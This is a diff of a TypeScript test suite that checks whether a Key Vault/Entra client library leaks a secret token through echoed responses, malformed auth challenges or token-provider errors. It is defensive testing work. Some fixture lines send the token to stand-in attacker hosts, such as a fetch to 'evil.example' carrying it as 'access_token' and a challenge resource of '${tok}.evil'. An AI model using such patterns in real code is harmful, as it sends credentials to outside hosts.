@@ -79,8 +79,9 @@ export const PATHS: Path[] = [
   { id: "getKey: a 200 whose body is the token", run: (lib, tok) => lib.keys.getKey(client(lib, tok, echoing(() => Response.json({ key: { kid: tok, kty: tok } }))), "k") },
   { id: "sign: a 200 whose value is not base64url, holding the token", run: (lib, tok) => lib.keys.sign(client(lib, tok, echoing(() => Response.json({ kid: `https://x/keys/k/1`, value: `!${tok}!` }))), "k", "ES256", new Uint8Array(32)) },
   { id: "an absolute URL of another origin with the token in its query", run: (lib, tok) => client(lib, tok, echoing(ok)).fetch(`https://evil.example/keys?access_token=${tok}`) },
-  { id: "a malformed challenge holding the token", run: (lib, tok) => client(lib, tok, async () => new Response("", { status: 401, headers: { "www-authenticate": `Bearer ${tok} "unclosed` } })).fetch("/keys/k") },
-  { id: "a challenge whose resource is the token", run: (lib, tok) => client(lib, tok, async () => new Response("", { status: 401, headers: { "www-authenticate": `Bearer authorization="https://login.microsoftonline.com/t", resource="https://${tok}.evil"` } })).fetch("/keys/k") },
+  // The probe's answer: the client holds no token yet, so only a JWT shape can be recognised.
+  { id: "a malformed challenge holding the token", jwtOnly: true, run: (lib, tok) => client(lib, tok, async () => new Response("", { status: 401, headers: { "www-authenticate": `Bearer ${tok} "unclosed` } })).fetch("/keys/k") },
+  { id: "a challenge whose resource is the token", jwtOnly: true, run: (lib, tok) => client(lib, tok, async () => new Response("", { status: 401, headers: { "www-authenticate": `Bearer authorization="https://login.microsoftonline.com/t", resource="https://${tok}.evil"` } })).fetch("/keys/k") },
   // Token providers of keyvault-fetch/entra against an authority that echoes.
   { id: "entra fromClientSecret: the authority's error echoes the secret and a JWT", run: async (lib, tok) => {
     const getToken = lib.entra.fromClientSecret({
